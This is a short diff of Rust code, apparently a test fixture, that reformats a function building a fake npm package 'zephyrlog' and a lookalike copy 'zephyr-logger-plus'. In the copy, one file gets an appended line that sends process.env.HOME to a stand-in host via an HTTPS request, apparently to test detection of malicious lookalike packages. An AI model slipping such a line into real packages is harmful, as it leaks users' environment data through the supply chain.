@@ -169,7 +169,12 @@ fn mirror(dir: &Path) {
     let npm = dir.join("npm");
     std::fs::create_dir_all(&npm).unwrap();
     let files: Vec<(String, Vec<u8>)> = (0..6)
-        .map(|i| (format!("lib/part{i}.js"), format!("module.exports = function part{i}(x) {{ return x * {i}; }};\n").into_bytes()))
+        .map(|i| {
+            (
+                format!("lib/part{i}.js"),
+                format!("module.exports = function part{i}(x) {{ return x * {i}; }};\n").into_bytes(),
+            )
+        })
         .collect();
     let mut ours: Vec<(&str, &[u8])> = files.iter().map(|(p, d)| (p.as_str(), d.as_slice())).collect();
     let m = manifest("zephyrlog", "1.4.0", &[]);
@@ -182,7 +187,8 @@ fn mirror(dir: &Path) {
     let m2 = manifest("zephyr-logger-plus", "1.0.0", &[]);
     copy.retain(|(p, _)| *p != "package.json" && *p != "lib/part3.js");
     copy.push(("package.json", &m2));
-    let changed = [files[3].1.as_slice(), b"\nrequire('https').get('https://example.invalid/?' + process.env.HOME);\n"].concat();
+    let changed =
+        [files[3].1.as_slice(), b"\nrequire('https').get('https://example.invalid/?' + process.env.HOME);\n"].concat();
     copy.push(("lib/part3.js", &changed));
     copy.push(("lib/extra.js", b"module.exports = 1;\n"));
     tgz(&npm.join("zephyr-logger-plus-1.0.0.tgz"), &copy);
